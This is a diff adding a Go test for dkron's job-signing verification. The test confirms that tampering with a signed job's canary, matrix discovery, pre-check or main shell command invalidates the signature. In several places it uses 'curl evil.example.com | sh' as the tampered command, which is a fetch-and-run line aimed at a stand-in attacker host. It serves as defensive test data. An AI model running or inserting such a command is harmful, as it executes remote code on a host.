@@ -0,0 +1,66 @@
+package dkron
+
+import (
+	"crypto/ed25519"
+	"crypto/rand"
+	"encoding/base64"
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestVerifyJobSignature(t *testing.T) {
+	dir, err := ioutil.TempDir("", "dkron-signing")
+	require.NoError(t, err)
+	defer os.RemoveAll(dir)
+
+	pub, priv, err := ed25519.GenerateKey(rand.Reader)
+	require.NoError(t, err)
+	file := filepath.Join(dir, "release.pub")
+	require.NoError(t, ioutil.WriteFile(file, []byte(base64.StdEncoding.EncodeToString(pub)+"\n"), 0644))
+
+	keys, err := loadJobSigningKeys([]string{file})
+	require.NoError(t, err)
+	a := &Agent{config: &Config{RequireSignedJobs: true}, signingKeys: keys}
+
+	job := scaffoldJob()
+	SignJob(job, priv)
+	require.NoError(t, a.verifyJobSignature(job))
+	assert.Equal(t, "release", job.SignedBy)
+
+	// Fields out of the signed spec can change
+	job.Schedule = "@every 5m"
+	assert.NoError(t, a.verifyJobSignature(job))
+
+	// The spec run by its canary is signed too
+	job.Canary = &Canary{Executor: "shell", ExecutorConfig: map[string]string{"command": "curl evil.example.com | sh"}}
+	assert.Equal(t, ErrJobSignature, a.verifyJobSignature(job))
+	job.Canary = nil
+
+	// And the one discovering its matrix
+	job.Matrix = &Matrix{Discovery: &Step{Name: "discover", Executor: "shell", ExecutorConfig: map[string]string{"command": "curl evil.example.com | sh"}}}
+	assert.Equal(t, ErrJobSignature, a.verifyJobSignature(job))
+	job.Matrix = nil
+
+	// And its pre-check
+	job.Precheck = &Precheck{Executor: "shell", ExecutorConfig: map[string]string{"command": "curl evil.example.com | sh"}}
+	assert.Equal(t, ErrJobSignature, a.verifyJobSignature(job))
+	job.Precheck = nil
+
+	job.ExecutorConfig["command"] = "curl evil.example.com | sh"
+	assert.Equal(t, ErrJobSignature, a.verifyJobSignature(job))
+	assert.Empty(t, job.SignedBy)
+
+	job.Signature = ""
+	assert.Equal(t, ErrUnsignedJob, a.verifyJobSignature(job))
+	a.config.RequireSignedJobs = false
+	assert.NoError(t, a.verifyJobSignature(job))
+
+	require.NoError(t, ioutil.WriteFile(file, []byte("invalid"), 0644))
+	_, err = loadJobSigningKeys([]string{file})
+	assert.Error(t, err)
+}